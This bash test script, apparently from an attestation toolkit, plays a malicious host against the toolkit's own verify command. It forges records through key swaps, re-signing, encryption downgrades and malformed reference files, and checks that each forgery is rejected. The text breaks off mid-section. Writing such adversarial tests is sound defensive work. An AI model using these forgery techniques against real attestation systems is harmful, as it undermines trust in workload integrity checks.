#!/usr/bin/env bash
# The host as the attacker of `se-attest verify` (issue 12).
#
#   adversarial-verify.sh SE_ATTEST SHARED_DIR
#
# The auditor trusts `se-attest verify` before sending a workload its secrets; the host controls
# the cidata disk and hands the auditor the /var/hyperprotect folder. This test forges such
# folders with nothing but the openssl command line and `se-attest keygen`/`encrypt`, as a host
# could, and runs the auditor's verify on each. A false VERIFIED (exit 0) is the worst failure of
# the project: the closing line `adversarial-verify: attacks N, verified 0` must say 0, and every
# attack must end with its exit code (1 forged folder, 2 bad auditor input) and its failing check.
#
# First the honest folders, made exactly as the agent writes them (SPEC "Output folder", "Record
# format"), must verify (exit 0): the controls. A failed control stops the test: then the toolkit,
# not verify, is wrong. No root, no loop devices, no agent.
set -uo pipefail

if [ $# -ne 2 ]; then
  echo "usage: $0 SE_ATTEST SHARED_DIR" >&2
  exit 2
fi
BIN=$(realpath "$1")
SHARED=$(realpath "$2")
PY=/usr/bin/python3
[ -x "$PY" ] || PY=python3
W=$(mktemp -d /tmp/se-attest-adversarial.XXXXXX)
# shellcheck disable=SC2317 # called by the EXIT trap
cleanup() {
  chmod -R u+rwX "$W" 2>/dev/null
  rm -rf "$W"
}
trap cleanup EXIT
cd "$W" || exit 1
START=$SECONDS

die() {
  echo "adversarial-verify: setup failed: $*"
  exit 1
}
[ -d "$SHARED/interop" ] || die "$SHARED/interop: not found"
[ -x /usr/bin/time ] || die "needs /usr/bin/time (Debian package time) to measure each run"

# ASan reserves terabytes of address space and inflates RSS: no memory limits, no RSS assertion.
ASAN=0
if nm -C "$BIN" 2>/dev/null | grep -q __asan_init || grep -qa __asan_init "$BIN"; then ASAN=1; fi
MAX_RSS_KIB=262144
MAX_SECONDS=30

# --- keys: three key sets (the honest image, the attacker's own, a development image), the
# auditor's RSA-4096 key pair for attestationPublicKey, the attacker's own key pair. In parallel.
pids=()
"$BIN" keygen keys >keygen-honest.log 2>&1 & pids+=($!)
"$BIN" keygen evil-keys >keygen-evil.log 2>&1 & pids+=($!)
"$BIN" keygen dev-keys >keygen-dev.log 2>&1 & pids+=($!)
openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:4096 -out auditor.key 2>/dev/null & pids+=($!)
openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:4096 -out attacker.key 2>/dev/null & pids+=($!)
for p in "${pids[@]}"; do wait "$p" || die "key generation (keygen-*.log: $(cat keygen-*.log))"; done
openssl pkey -in auditor.key -pubout -out auditor.pub || die "auditor.pub"
openssl pkey -in attacker.key -pubout -out attacker.pub || die "attacker.pub"
K=$W/keys EK=$W/evil-keys DK=$W/dev-keys

# --- an openssl-made PKI that also certifies the honest attestation key (and the development
# one): the CA keys that keygen does not hand out, for a CRL and a shared CA.
mkdir pki || die "mkdir pki"
(
  cd pki || exit 1
  cat >pki.cnf <<'EOF'
[req]
distinguished_name = dn
prompt = no
[dn]
CN = unused
[ca]
default_ca = int
[int]
database = ./index.txt
crlnumber = ./crlnumber
default_md = sha256
default_crl_days = 30
crl_extensions = crl_ext
[crl_ext]
authorityKeyIdentifier = keyid:always
[v3_ca]
basicConstraints = critical,CA:TRUE
keyUsage = critical,keyCertSign,cRLSign
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid:always
[v3_leaf]
basicConstraints = critical,CA:FALSE
keyUsage = critical,digitalSignature
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid:always
EOF
  set -e
  openssl req -x509 -new -newkey rsa:2048 -nodes -keyout root.key -out root.crt -subj "/CN=adversarial root" \
    -days 3650 -config pki.cnf -extensions v3_ca
  openssl req -new -newkey rsa:2048 -nodes -keyout int.key -out int.csr -subj "/CN=adversarial intermediate" -config pki.cnf
  openssl x509 -req -in int.csr -CA root.crt -CAkey root.key -set_serial 2 -days 3650 -extfile pki.cnf \
    -extensions v3_ca -out int.crt
  openssl req -new -key "$K/attestation.key" -out att.csr -subj "/CN=adversarial attestation" -config pki.cnf
  openssl x509 -req -in att.csr -CA int.crt -CAkey int.key -set_serial 4097 -days 365 -extfile pki.cnf \
    -extensions v3_leaf -out att.crt
  openssl req -new -key "$DK/attestation.key" -out dev-att.csr -subj "/CN=adversarial development attestation" \
    -config pki.cnf
  openssl x509 -req -in dev-att.csr -CA int.crt -CAkey int.key -set_serial 4098 -days 365 -extfile pki.cnf \
    -extensions v3_leaf -out dev-att.crt
  : >index.txt
  echo 01 >crlnumber
  openssl ca -config pki.cnf -gencrl -keyfile int.key -cert int.crt -out empty.crl
  openssl ca -config pki.cnf -keyfile int.key -cert int.crt -revoke att.crt
  openssl ca -config pki.cnf -gencrl -keyfile int.key -cert int.crt -out revoked.crl
) >pki.log 2>&1 || die "openssl PKI: $(tail -5 pki.log)"

# --- the build's values ---------------------------------------------------------------------
VERSION=1.0.0-adv
COMMIT=adv-commit-0123abcd
MACHINE=3932/02/860A8
DEV_LINE="Development image: not protected by Secure Execution, its attestation key is not secret"
hash_text() { printf '%s' "$1" | sha256sum | cut -c1-64; }
hash_file() { sha256sum "$1" | cut -c1-64; }
BASEIMAGE_SHA=$(hash_text baseimage.qcow2)
TARBALL_SHA=$(hash_text root.tar.gz)
ROOT_SHA=$(hash_text root-partition)
# SHA-256 of the DER SubjectPublicKeyInfo, as seal writes attestation_public_key_sha256.
key_fp() { openssl pkey -in "$1" -pubout -outform DER | sha256sum | cut -c1-64; }
K_FP=$(key_fp "$K/attestation.key")
DK_FP=$(key_fp "$DK/attestation.key")

# make_reference FILE FINGERPRINT KIND [VERSION]: reference.yaml as `se-attest seal` writes it.
# The folders here are in record profile hpcr-2023 (reference.yaml without record_profile, the
# seed's layout): the attacks are on what both profiles share; those on hpcr-2026's own lines and
# files (header lines, certificate_expiry_date.json, sbom, contract:*) are host-e2e.sh's, on
# folders the agent wrote (its section 8).
make_reference() {
  cat >"$1" <<EOF
# Expected values for auditors, written by \`se-attest seal\`.
image_version: "${4:-$VERSION}"
commit_id: "$COMMIT"
image_kind: $3
measurements:
  baseimage: $BASEIMAGE_SHA
  root.tar.gz: $TARBALL_SHA
root_partition:
  device: PARTLABEL=se-root
  sha256: $ROOT_SHA
  size: 16777216
  tarball: /boot/root.tar.gz
attestation_public_key_sha256: $2
contract_signing_keys_sha256: []
EOF
}
make_reference ref.yaml "$K_FP" production
make_reference ref-dev.yaml "$DK_FP" development
make_reference ref-dev-as-production.yaml "$DK_FP" production

# make_folder DIR KEYS CONTRACT_PUB ENCRYPT_TO INSTANCE [DEV]: an honest /var/hyperprotect as the
# agent writes it, for an image whose key set is KEYS (contract.crt encrypts the workload token,
# attestation.key signs). CONTRACT_PUB: the contract's attestationPublicKey (a PEM file) or -.
# ENCRYPT_TO: the key the record is encrypted for (the agent: CONTRACT_PUB) or - (plain). DEV=1:
# the development header line. VERSION, MACHINE and NO_VENDOR=1 may be set for one call. The
# plaintext record is kept beside the folder as DIR.record, the workload's plaintext as DIR.workload.
make_folder() {
  local dir=$1 keys=$2 pub=$3 enc_to=$4 inst=$5 dev=${6:-0} token f
  rm -rf "$dir" "$dir.record"
  mkdir -p "$dir/cidata"
  printf 'instance-id: %s\nlocal-hostname: se-attest-%s\n' "$inst" "$inst" >"$dir/cidata/meta-data"
  [ "${NO_VENDOR:-0}" = 1 ] || printf '#cloud-config\n{}\n' >"$dir/cidata/vendor-data"
  printf 'type: workload\ncompose:\n  archive: H4sIAAAAAAAA-%s\n' "$inst" >"$dir.workload"
  token=$("$BIN" encrypt --to "$keys/contract.crt" "$dir.workload") || die "encrypt workload"
  # The contract: env plain (a quoted string among its values), workload a token, and the
  # auditor's key as PEM text.
  {
    printf 'env:\n  type: env\n  port: "8080"\n  instance: %s\n' "$inst"
    printf 'workload: %s\n' "$token"
    if [ "$pub" != - ]; then
      echo "attestationPublicKey: |"
      sed 's/^/  /' "$pub"
    fi
  } >"$dir/cidata/user-data"
  # user-data.decrypted (agent/lib/core/contract.cc): plain sections written back keeping their
  # types, a token section as a `key: |` literal block of its plaintext (RenderStringEntry).
  {
    printf 'env:\n  type: env\n  port: "8080"\n  instance: %s\n' "$inst"
    echo "workload: |"
    sed 's/^/    /' "$dir.workload"
    if [ "$pub" != - ]; then
      echo "attestationPublicKey: |"
      sed 's/^/  /' "$pub"
    fi
  } >"$dir/user-data.decrypted"
  [ "$pub" = - ] || cp "$pub" "$dir/attestationPublicKey"
  {
    echo "${VERSION}"
    echo "Machine Type/Plant/Serial: ${MACHINE}"
    [ "$dev" != 1 ] || echo "$DEV_LINE"
    echo "$BASEIMAGE_SHA baseimage"
    echo "$TARBALL_SHA root.tar.gz"
    echo "$(hash_text "cidata device of $inst") /dev/disk/by-label/cidata"
    for f in meta-data user-data vendor-data; do
      [ ! -e "$dir/cidata/$f" ] || echo "$(hash_file "$dir/cidata/$f") cidata/$f"
    done
    [ "$pub" = - ] || echo "$(hash_file "$dir/attestationPublicKey") attestationPublicKey"
  } >"$dir.record"
  echo "$VERSION" >"$dir/se-version"
  echo "$COMMIT" >"$dir/se-commit-id"
  printf 'This folder is the attestation record of this instance, written at boot by se-attest-agent\n' >"$dir/README"
  seal_record "$dir" "$keys/attestation.key" "$enc_to"
  find "$dir" -type f -exec chmod 0400 {} +
  chmod 0444 "$dir/README"
}

# seal_record DIR SIGNING_KEY ENCRYPT_TO|-: signs DIR.record (the plaintext record) into
# DIR/se-signature.bin and writes it to DIR as se-checksums.txt.enc (for ENCRYPT_TO) or as
# se-checksums.txt, removing the other form. What the agent does, and what a forger redoes.
seal_record() {
  local dir=$1 key=$2 enc_to=$3
  rm -f "$dir/se-signature.bin" "$dir/se-checksums.txt" "$dir/se-checksums.txt.enc"
  openssl dgst -sha256 -sign "$key" -out "$dir/se-signature.bin" "$dir.record" || die "sign $dir"
  if [ "$enc_to" = - ]; then
    cp "$dir.record" "$dir/se-checksums.txt"
  else
    "$BIN" encrypt --to "$enc_to" "$dir.record" >"$dir/se-checksums.txt.enc" || die "encrypt $dir"
  fi
}

# clone SRC DST: a writable copy of an honest folder (and of its plaintext record) to forge.
clone() {
  rm -rf "$2" "$2.record"
  if ! { cp -a "$1" "$2" && chmod -R u+w "$2" && cp "$1.record" "$2.record" && chmod u+w "$2.record"; }; then
    die "clone $1"
  fi
}
# put FILE: FILE's new content from stdin (the host rewrites a file it was handed).
put() {
  rm -rf "$1"
  cat >"$1"
}

# The honest folders.
make_folder honest "$K" auditor.pub auditor.pub alpha              # encrypted record
make_folder honest-plain "$K" - - alpha                            # no attestationPublicKey
make_folder honest-bravo "$K" auditor.pub auditor.pub bravo        # another instance
VERSION=0.9.0-adv make_folder honest-old "$K" auditor.pub auditor.pub alpha   # an older image
MACHINE=8561/02/12345 make_folder honest-other-machine "$K" auditor.pub auditor.pub alpha
NO_VENDOR=1 make_folder honest-novendor "$K" - - alpha
make_folder dev "$DK" auditor.pub auditor.pub alpha 1               # a development image
mkdir expect-alpha && cp honest/cidata/* expect-alpha/ && cp honest/cidata/user-data contract-alpha.yaml

echo "setup: $((SECONDS - START)) s"
AUDIT=(--cert "$K/attestation.crt" --chain "$K/intermediate-ca.crt" --ca "$K/root-ca.crt" --reference ref.yaml)
KEY=(--key auditor.key)
DEV_AUDIT=(--cert "$DK/attestation.crt" --chain "$DK/intermediate-ca.crt" --ca "$DK/root-ca.crt")
PKI=(--chain pki/int.crt --ca pki/root.crt --reference ref.yaml --key auditor.key)

# --- running verify ---------------------------------------------------------------------------
# run_verify OUT ARGS...: `se-attest verify ARGS` with a hang guard; stdout in OUT.out, stderr in
# OUT.err; sets RC, ELAPSED (s) and RSS (KiB, the maximum resident set).
run_verify() {
  local out=$1
  shift
  (
    [ "$ASAN" = 1 ] || ulimit -v 4194304  # keeps a runaway parser from taking the machine with it
    exec /usr/bin/time -f '%e %M' -o "$out.time" timeout -k 5 "$MAX_SECONDS" "$BIN" verify "$@" >"$out.out" 2>"$out.err"
  )
  RC=$?
  ELAPSED='?' RSS=0
  [ -s "$out.time" ] && read -r ELAPSED RSS < <(tail -1 "$out.time")
  case $RSS in '' | *[!0-9]*) RSS=0 ;; esac
}

# Every attack is one line of $MANIFEST (tab-separated: kind, name, expected exit, expected check
# ids, detail regex, terminal check, exit, seconds, KiB, output prefix, option); one Python run
# at the end judges them all (a Python start per attack would cost more than the attacks).
MANIFEST=$W/manifest.tsv
: >"$MANIFEST"
N=0
record_run() {  # record_run KIND NAME WANT_EXIT WANT_ID DETAIL_RE TERMINAL OPTION: the last run
  printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$4" "$5" "$6" "$RC" "$ELAPSED" "$RSS" \
    "r$N" "$7" >>"$MANIFEST"
}
# finding NAME WHAT: a failed assertion made here in the shell, reported with the attacks.
finding() { printf 'extra\t%s\t\t\t\t\t\t\t\t\t%s\n' "$1" "$2" >>"$MANIFEST"; }

# attack NAME EXPECTED_EXIT EXPECTED_CHECK_ID [--detail REGEX] [--terminal] -- VERIFY_ARGS...
# EXPECTED_CHECK_ID may list alternatives (a|b): one of them must be among the failing checks
# (status fail or error; with EXPECTED_EXIT 3, required and not checked) of the --json report. --detail: that check's detail must match REGEX.
# --terminal: the text report too, for raw control and bidi characters.
attack() {
  local name=$1 want_exit=$2 want_id=$3 detail_re="" terminal=0
  shift 3
  while [ "$1" != -- ]; do
    case $1 in
      --detail) detail_re=$2; shift 2 ;;
      --terminal) terminal=1; shift ;;
      *) die "attack $name: unknown option $1" ;;
    esac
  done
  shift
  N=$((N + 1))
  if [ "$terminal" = 1 ]; then run_verify "r$N.text" "$@"; fi
  run_verify "r$N" "$@" --json
  record_run attack "$name" "$want_exit" "$want_id" "$detail_re" "$terminal" ""
}

# attack_usage NAME OPTION -- VERIFY_ARGS...: a usage error, exit 2, its message naming OPTION.
attack_usage() {
  local name=$1 option=$2
  shift 3
  N=$((N + 1))
  run_verify "r$N" "$@"
  record_run usage "$name" 2 "" "" 0 "$option"
}

JUDGE='
import json, re, sys
manifest, asan, max_rss, max_seconds = sys.argv[1], sys.argv[2] == "1", int(sys.argv[3]), sys.argv[4]
BAD_TEXT = ((b"\xc2\x9b", "U+009B"), (b"\xe2\x80\xae", "U+202E"), (b"\xe2\x81\xa6", "U+2066"), (b"\x1b", "ESC"))

def read(path, mode="rb"):
    try:
        with open(path, mode) as f:
            return f.read()
    except OSError:
        return b"" if mode == "rb" else ""

def terminal_problems(text, js):
    # Text: none of the planted sequences, nor any other control or bidi character. JSON: them
    # only as \u escapes, all four (the planted text reached the report).
    problems = []
    for raw, name in BAD_TEXT:
        if raw in text: problems.append("text has a raw " + name)
        if raw in js: problems.append("JSON has a raw " + name)
    bad = sorted({"U+%04X" % ord(ch) for ch in text.decode("utf-8", "replace")
                  if (ord(ch) < 0x20 and ch != "\n") or 0x7f <= ord(ch) <= 0x9f or 0x202a <= ord(ch) <= 0x202e
                  or 0x2066 <= ord(ch) <= 0x2069 or ord(ch) in (0x200e, 0x200f, 0x061c)})
    if bad: problems.append("text has " + " ".join(bad))
    for esc in (b"\\u009b", b"\\u202e", b"\\u2066", b"\\u001b"):
        if esc not in js.lower(): problems.append("JSON lacks " + esc.decode())
    return problems

attacks = verified = 0
findings = []
for line in open(manifest, encoding="utf-8", errors="surrogateescape"):
    kind, name, want_exit, want_id, detail_re, terminal, rc, elapsed, rss, prefix, option = line.rstrip("\n").split("\t")
    def mismatch(what):
        findings.append(name + ": " + what)
        print("MISMATCH attack %s: %s" % (name, what))
    if kind == "extra":
        mismatch(option)
        continue
    attacks += 1
    if rc == "0":
        verified += 1
    if rc in ("124", "137"):
        mismatch("did not finish within %s s (killed)" % max_seconds)
        continue
    if not asan and int(rss) >= max_rss:
        mismatch("exit %s, but max RSS %s KiB >= %d KiB" % (rc, rss, max_rss))
        continue
    stderr = read(prefix + ".err").decode("utf-8", "replace")
    first = stderr.split("\n")[0]
    if kind == "usage":
        if rc != "2":
            mismatch("expected exit 2 (usage error), got exit %s %s" % (rc, first))
        elif option not in first:
            mismatch("exit 2, but the message does not name %s: %s" % (option, first))
        else:
            print("attack %s: exit 2, usage error: %s" % (name, first))
        continue
    raw = read(prefix + ".out")
    try:
        report = json.loads(raw.decode("utf-8"))
        checks = report["checks"]
    except Exception as e:
        mismatch("exit %s, the --json output is not valid JSON (%s); stderr: %s" % (rc, type(e).__name__, stderr[:300]))
        continue
    failing = [c["id"] for c in checks if c.get("status") in ("fail", "error")]
    if want_exit == "3":  # incomplete: a required check that could not be made
        failing += [c["id"] for c in checks if c.get("status") == "not-checked" and c.get("required")]
    hit = next((w for w in want_id.split("|") if w in failing), None)
    if rc != want_exit or hit is None:
        mismatch("expected exit %s, check %s; got exit %s, failing checks: %s%s" % (
            want_exit, want_id, rc, ",".join(failing) or "none", "; stderr: " + stderr[:300] if stderr else ""))
        continue
    if str(report.get("exit_code")) != rc:
        mismatch("the JSON says exit_code %s, the exit status is %s" % (report.get("exit_code"), rc))
        continue
    details = [c.get("detail", "") for c in checks if c["id"] == hit]
    if detail_re and not any(re.search(detail_re, d) for d in details):
        mismatch("check %s failed, but its detail does not match /%s/: %s" % (hit, detail_re, details))
        continue
    if terminal == "1":
        problems = terminal_problems(read(prefix + ".text.out"), raw)
        if problems:
            mismatch("terminal safety: " + "; ".join(problems))
            continue
    print("attack %s: exit %s, failed check %s (%s s, %s KiB)" % (name, rc, hit, elapsed, rss))
print("findings (attacks that did not end as expected):" if findings else "findings: none")
for f in findings:
    print("  " + f)
print("adversarial-verify: attacks %d, verified %d" % (attacks, verified))
sys.exit(1 if findings or verified else 0)
'

# control NAME -- VERIFY_ARGS...: must be VERIFIED (exit 0), in text and in JSON.
control() {
  local name=$1
  shift 2
  N=$((N + 1))
  run_verify "r$N" "$@"
  if [ "$RC" != 0 ] || ! grep -q '^verdict: VERIFIED' "r$N.out"; then
    echo "CONTROL FAILED $name: exit $RC"
    sed 's/^/#   /' "r$N.out" "r$N.err" | grep -v '^#   pass'
    echo "adversarial-verify: a control failed, the attacks were not run"
    exit 1
  fi
  run_verify "r$N.json" "$@" --json
  if [ "$RC" != 0 ] || [ "$("$PY" -c 'import json,sys; print(json.load(open(sys.argv[1]))["verdict"])' "r$N.json.out")" != verified ]; then
    echo "CONTROL FAILED $name (--json): exit $RC"
    sed 's/^/#   /' "r$N.json.out" "r$N.json.err"
    echo "adversarial-verify: a control failed, the attacks were not run"
    exit 1
  fi
  echo "control $name: exit 0, VERIFIED (${ELAPSED} s, ${RSS} KiB)"
}

# === 3. controls ================================================================================
control "honest encrypted folder" -- honest "${AUDIT[@]}" "${KEY[@]}"
control "honest plain folder" -- honest-plain "${AUDIT[@]}"
control "honest encrypted folder, every expectation" -- honest "${AUDIT[@]}" "${KEY[@]}" \
  --contract contract-alpha.yaml --expect-cidata expect-alpha --attestation-public-key auditor.pub --machine "$MACHINE"
control "another honest instance" -- honest-bravo "${AUDIT[@]}" "${KEY[@]}"
control "honest folder without vendor-data" -- honest-novendor "${AUDIT[@]}"
control "honest folder, certificate from the openssl PKI, a CRL that revokes nothing" -- \
  honest --cert pki/att.crt "${PKI[@]}" --crl pki/empty.crl
control "development image, --allow-development, development reference" -- \
  dev "${DEV_AUDIT[@]}" --reference ref-dev.yaml "${KEY[@]}" --allow-development

# === 4a. key binding ============================================================================
# The host puts its own key into the contract's attestationPublicKey, boots the real image (the
# agent measures that contract, writes the host's key as attestationPublicKey and encrypts the
# record for it), decrypts the record and encrypts it again for the auditor.
make_folder evil-bind "$K" attacker.pub auditor.pub alpha
attack "key binding: contract key swapped, record re-encrypted for the auditor" 1 key-binding -- \
  evil-bind "${AUDIT[@]}" "${KEY[@]}"
clone evil-bind evil-bind-file
cp auditor.pub evil-bind-file/attestationPublicKey
attack "key binding: ... and the folder's attestationPublicKey file replaced by the auditor's" 1 \
  "file:attestationPublicKey|key-binding" -- evil-bind-file "${AUDIT[@]}" "${KEY[@]}"
clone evil-bind evil-bind-resign
sed -i "s/^[0-9a-f]* attestationPublicKey\$/$(hash_file auditor.pub) attestationPublicKey/" evil-bind-resign.record
cp auditor.pub evil-bind-resign/attestationPublicKey
seal_record evil-bind-resign attacker.key auditor.pub
attack "key binding: record line set to the auditor's key, re-signed with the attacker's key" 1 signature -- \
  evil-bind-resign "${AUDIT[@]}" "${KEY[@]}"
clone evil-bind evil-bind-noline
sed -i '/ attestationPublicKey$/d' evil-bind-noline.record
rm -f evil-bind-noline/attestationPublicKey
seal_record evil-bind-noline "$EK/attestation.key" auditor.pub
attack "key binding: record line removed, re-signed with the attacker's attestation key" 1 signature -- \
  evil-bind-noline "${AUDIT[@]}" "${KEY[@]}"
cp evil-bind/se-signature.bin evil-bind-noline/se-signature.bin
attack "key binding: record line removed, the real signature kept" 1 signature -- \
  evil-bind-noline "${AUDIT[@]}" "${KEY[@]}"
# A contract without attestationPublicKey (a plain record, signed by the real image), which the
# host encrypts for the auditor itself so that it looks like the record the auditor asked for.
make_folder evil-wrap "$K" - auditor.pub alpha
attack "key binding: plain-record contract, record wrapped for the auditor by the host" 1 key-binding -- \
  evil-wrap "${AUDIT[@]}" "${KEY[@]}"
clone evil-bind evil-bind-nofile
rm -f evil-bind-nofile/attestationPublicKey
attack "key binding: contract key swapped, the folder's attestationPublicKey removed" 1 \
  "file:attestationPublicKey|key-binding" -- evil-bind-nofile "${AUDIT[@]}" "${KEY[@]}"
# attestationPublicKey with two PEM blocks (the agent refuses such a contract; another runtime may
# encrypt for either block): verify must not bind the record to whichever block it reads first.
cat auditor.pub attacker.pub >two-keys-auditor-first.pem
cat attacker.pub auditor.pub >two-keys-attacker-first.pem
make_folder evil-two-keys-1 "$K" two-keys-auditor-first.pem auditor.pub alpha
attack "key binding: attestationPublicKey with two PEM blocks, the auditor's first" 1 \
  "key-binding|file:attestationPublicKey" -- evil-two-keys-1 "${AUDIT[@]}" "${KEY[@]}"
make_folder evil-two-keys-2 "$K" two-keys-attacker-first.pem auditor.pub alpha
attack "key binding: attestationPublicKey with two PEM blocks, the attacker's first" 1 \
  "key-binding|file:attestationPublicKey" -- evil-two-keys-2 "${AUDIT[@]}" "${KEY[@]}"
attack "key binding: contract key swapped, auditor gives --attestation-public-key" 1 \
  "expected:attestationPublicKey|key-binding" -- evil-bind "${AUDIT[@]}" "${KEY[@]}" --attestation-public-key auditor.pub

# === 4b. downgrade ==============================================================================
attack "downgrade: --key given, the folder's record is plain (contract without attestationPublicKey)" 1 decryption -- \
  honest-plain "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-down
rm -f evil-down/se-checksums.txt.enc
cp evil-down.record evil-down/se-checksums.txt
attack "downgrade: .enc replaced by its plaintext, attestationPublicKey kept" 1 decryption -- \
  evil-down "${AUDIT[@]}" "${KEY[@]}"
rm -f evil-down/attestationPublicKey
attack "downgrade: .enc replaced by its plaintext, attestationPublicKey removed, --key" 1 decryption -- \
  evil-down "${AUDIT[@]}" "${KEY[@]}"
attack "downgrade: .enc replaced by its plaintext, attestationPublicKey removed, no --key" 1 \
  file:attestationPublicKey -- evil-down "${AUDIT[@]}"

# The prefix of the .enc is outside the signature: rewritten, the record still decrypts and its
# signature still holds; only the reference's token_prefix tells it (record-token-prefix).
clone honest evil-prefix
sed -i 's/^hyper-protect-basic\./contract-basic./' evil-prefix/se-checksums.txt.enc
attack "token prefix: the .enc's hyper-protect-basic prefix rewritten to contract-basic" 1 record-token-prefix -- \
  evil-prefix "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-prefix-third
sed -i 's/^hyper-protect-basic\./hyper-protect-flex./' evil-prefix-third/se-checksums.txt.enc
attack "token prefix: a third prefix (hyper-protect-flex) is no token" 1 record -- \
  evil-prefix-third "${AUDIT[@]}" "${KEY[@]}"

# === 4c. empty option values: never a way to turn a check off ==================================
# Each time the rest of the honest audit, so that a silently ignored option ends VERIFIED.
CERT=(--cert "$K/attestation.crt") CHAIN=(--chain "$K/intermediate-ca.crt") CA=(--ca "$K/root-ca.crt")
attack_usage 'empty --reference ""' --reference -- honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference ""
attack_usage 'empty --reference=' --reference -- honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference=
attack_usage 'empty --key ""' --key -- honest-plain "${AUDIT[@]}" --key ""
attack_usage 'empty --key=' --key -- honest-plain "${AUDIT[@]}" --key=
attack_usage 'empty --cert ""' --cert -- honest "${AUDIT[@]}" "${KEY[@]}" --cert ""
attack_usage 'empty --ca ""' --ca -- honest "${AUDIT[@]}" "${KEY[@]}" --ca ""
attack_usage 'empty --chain ""' --chain -- honest "${AUDIT[@]}" "${KEY[@]}" --chain ""
attack_usage 'empty --crl ""' --crl -- honest "${AUDIT[@]}" "${KEY[@]}" --crl ""
attack_usage 'empty --contract ""' --contract -- honest "${AUDIT[@]}" "${KEY[@]}" --contract ""
attack_usage 'empty --attestation-public-key ""' --attestation-public-key -- honest "${AUDIT[@]}" "${KEY[@]}" \
  --attestation-public-key ""
attack_usage 'empty --expect-cidata ""' --expect-cidata -- honest "${AUDIT[@]}" "${KEY[@]}" --expect-cidata ""
attack_usage 'empty --machine ""' --machine -- honest "${AUDIT[@]}" "${KEY[@]}" --machine ""
attack_usage 'empty --record ""' --record -- honest "${AUDIT[@]}" "${KEY[@]}" --record ""
attack_usage 'empty --signature ""' --signature -- honest "${AUDIT[@]}" "${KEY[@]}" --signature ""
attack_usage 'empty --at ""' --at -- honest "${AUDIT[@]}" "${KEY[@]}" --at ""
attack_usage 'empty folder argument ""' folder -- "" "${AUDIT[@]}" "${KEY[@]}"

# === 4d. reference.yaml read strictly ===========================================================
# ref_variant NAME SED_SCRIPT: ref.yaml edited; ref_line FILE REGEX: the line number of a match.
ref_variant() { sed "$2" ref.yaml >"$1"; }
ref_line() { grep -nE "$2" "$1" | head -1 | cut -d: -f1; }
ref_variant ref-misspelt.yaml 's/^attestation_public_key_sha256:/attestation_public_key_sha265:/'
L=$(ref_line ref-misspelt.yaml '^attestation_public_key_sha265')
attack "reference: misspelt key attestation_public_key_sha265" 2 input:reference \
  --detail "attestation_public_key_sha265.*line $L\\b|line $L\\b.*attestation_public_key_sha265" -- \
  honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference ref-misspelt.yaml
# image_version twice: the first is the build's, the second the older image's that the host replays.
sed 's/^image_version: .*/image_version: "'"$VERSION"'"\nimage_version: "0.9.0-adv"/' ref.yaml >ref-twice.yaml
L=$(grep -n '^image_version' ref-twice.yaml | tail -1 | cut -d: -f1)
attack "reference: image_version twice, the second one the replayed record's" 2 input:reference \
  --detail "image_version.*line $L\\b|line $L\\b.*image_version" -- \
  honest-old "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference ref-twice.yaml
{ cat ref.yaml; echo "allow_unsigned_files: true"; } >ref-unknown.yaml
L=$(ref_line ref-unknown.yaml '^allow_unsigned_files')
attack "reference: unknown top-level key" 2 input:reference \
  --detail "allow_unsigned_files.*line $L\\b|line $L\\b.*allow_unsigned_files" -- \
  honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference ref-unknown.yaml
sed "s/^  root.tar.gz: .*/&\n  bootloader: $ROOT_SHA/" ref.yaml >ref-unknown-measurement.yaml
L=$(ref_line ref-unknown-measurement.yaml '^  bootloader')
attack "reference: unknown key inside measurements" 2 input:reference \
  --detail "bootloader.*line $L\\b|line $L\\b.*bootloader" -- \
  honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference ref-unknown-measurement.yaml
ref_variant ref-misspelt-measurement.yaml 's/^  root.tar.gz:/  root.tar.gx:/'
L=$(ref_line ref-misspelt-measurement.yaml '^  root.tar.gx')
attack "reference: misspelt measurement root.tar.gx" 2 input:reference \
  --detail "root.tar.gx.*line $L\\b|line $L\\b.*root.tar.gx" -- \
  honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference ref-misspelt-measurement.yaml
sed "s/^  baseimage: .*/&\n  baseimage: $(hash_text other-baseimage)/" ref.yaml >ref-twice-measurement.yaml
attack "reference: baseimage twice inside measurements" 2 input:reference --detail baseimage -- \
  honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference ref-twice-measurement.yaml
ref_variant ref-no-tarball.yaml '/^  root.tar.gz:/d'
attack "reference: measurements without root.tar.gz" 2 input:reference --detail root.tar.gz -- \
  honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference ref-no-tarball.yaml
ref_variant ref-no-kind.yaml '/^image_kind:/d'
attack "reference: image_kind missing" 2 input:reference --detail image_kind -- \
  honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference ref-no-kind.yaml
{ cat ref.yaml; printf -- '---\nimage_version: "0.9.0-adv"\n'; } >ref-two-documents.yaml
attack "reference: a second YAML document" 2 input:reference -- \
  honest-old "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" --reference ref-two-documents.yaml
# A CA shared by a production and a development attestation key: only the reference's
# fingerprint tells them apart; a reference without it pins nothing.
make_folder evil-devsigned "$DK" auditor.pub auditor.pub alpha
attack "shared CA: a development key's record, production reference" 1 reference:attestation-key -- \
  evil-devsigned --cert pki/dev-att.crt "${PKI[@]}"
ref_variant ref-no-fingerprint.yaml '/^attestation_public_key_sha256:/d'
attack "shared CA: a development key's record, reference without attestation_public_key_sha256" 2 input:reference -- \
  evil-devsigned --cert pki/dev-att.crt --chain pki/int.crt --ca pki/root.crt --key auditor.key \
  --reference ref-no-fingerprint.yaml

# === 4e. files the signature does not cover ======================================================
clone honest evil-commit
